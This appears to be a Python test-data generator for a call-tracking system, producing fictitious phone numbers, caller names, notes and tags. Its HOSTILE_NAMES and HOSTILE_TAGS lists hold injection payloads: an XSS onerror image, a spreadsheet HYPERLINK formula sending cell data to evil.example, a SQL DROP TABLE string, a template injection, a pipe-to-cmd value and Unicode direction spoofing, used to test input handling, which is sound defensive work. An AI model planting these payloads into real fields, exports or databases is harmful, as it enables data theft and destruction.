"""The people of the year: who visits and calls, who writes on the calls, and what their texts are."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from random import Random

# Area codes with numbers that begin with 0, which no subscriber has; mobile codes that no network is known to use.
_LANDLINES = {"495": "+74950", "499": "+74990", "812": "+78120", "343": "+73430", "351": "+73510"}
_MOBILES = ("943", "944", "945", "946", "947", "948", "972", "973", "974", "975")
_HALF = 500_000  # of an area's numbers that begin with 0, the upper half is callers'; the lower one companies'
_SPREAD = 7_654_321  # has no factor in common with either space: it scatters numbers over it, none twice

_MOBILE_SHARE, _LANDLINE_SHARE = 0.89, 0.08  # of callers; the others withhold their number
_NAMED = 0.12  # of callers, by their network
_NAMES = (
    "Anna K.", "Boris", "Olga Petrova", "ООО Ромашка", "Ivan", "Мария С.", "Sergey V.", "Екатерина", "Dmitry",
    "ИП Соколов", "Natalia", "Алексей", "Irina B.", "Павел", "Studio 7",
)  # fmt: skip
HOSTILE_NAMES = (
    '<img src=x onerror="alert(1)">', '=HYPERLINK("http://evil.example/?"&A1,"call")', "'; DROP TABLE calls; --",
    "gnp.‮live", "{{7*7}}", "Ω" * 80, "@SUM(1+1)", "\u200f\u200eAnna",
)  # fmt: skip
HOSTILE_TAGS = (
    "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "%3DHYPERLINK(%22http%3A%2F%2Fevil.example%22)", "%E2%80%AEnaidar",
    "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E", "-2%2B3%7Ccmd", "a" * 300,
)  # fmt: skip
HOSTILE_SHARE = 0.005
"""Of callers and visits, where hostile texts are asked for."""

WRITERS = ("anna", "boris", "crm")
"""Who writes on calls: the names of tokens."""

GOOD_NOTES = (
    "Wants an offer by Friday", "Booked for Tuesday 10:00", "Ordered; delivery next week", "Asked about instalments",
    "Comes back with the measurements", "Перезвонить после 18:00", "Looks for a discount",
)  # fmt: skip
BAD_NOTES = ("Wrong number", "Looks for work", "Sells advertising", "Supplier", "Ошиблись номером")
TAGS = ("vip", "price", "complaint", "delivery", "new", "supplier")


@dataclass(frozen=True, slots=True)
class Phone:
    """A telephone that somebody calls from: ``area`` is empty for a mobile one. ``index`` counts those of its area."""

    area: str
    index: int
    name: str | None

    def e164(self, copies: int, copy: int) -> str:
        """Its number in one of so many copies of the data."""
        return e164(self.area, self.index * copies + copy)


def e164(area: str, index: int) -> str:
    """The how-manieth number of an area, or of mobile phones: each another, none near the one before."""
    if area:
        return f"{_LANDLINES[area]}{_HALF + index * _SPREAD % _HALF:06}"
    scattered = index * _SPREAD % (len(_MOBILES) * 10_000_000)
    return f"+7{_MOBILES[scattered // 10_000_000]}{scattered % 10_000_000:07}"


class Phones:
    """Gives people telephones, none twice."""

    def __init__(self, random: Random, *, hostile: bool) -> None:
        self._random, self._hostile = random, hostile
        self._given = dict.fromkeys(("", *_LANDLINES), 0)

    def phone(self, region: str) -> Phone | None:
        """One of somebody in this region; None of somebody who withholds their number."""
        kind = self._random.random()
        if kind >= _MOBILE_SHARE + _LANDLINE_SHARE:
            return None
        area = region if kind >= _MOBILE_SHARE and region in _LANDLINES else ""
        index = self._given[area]
        self._given[area] += 1
        return Phone(area, index, self._name())

    def _name(self) -> str | None:
        if self._hostile and self._random.random() < HOSTILE_SHARE:
            return self._random.choice(HOSTILE_NAMES)
        return self._random.choice(_NAMES) if self._random.random() < _NAMED else None


def pick(random: Random, weighed: Sequence[tuple[str, float]]) -> str:
    """One of these, by their weights."""
    names, weights = zip(*weighed, strict=True)
    return str(random.choices(names, weights)[0])
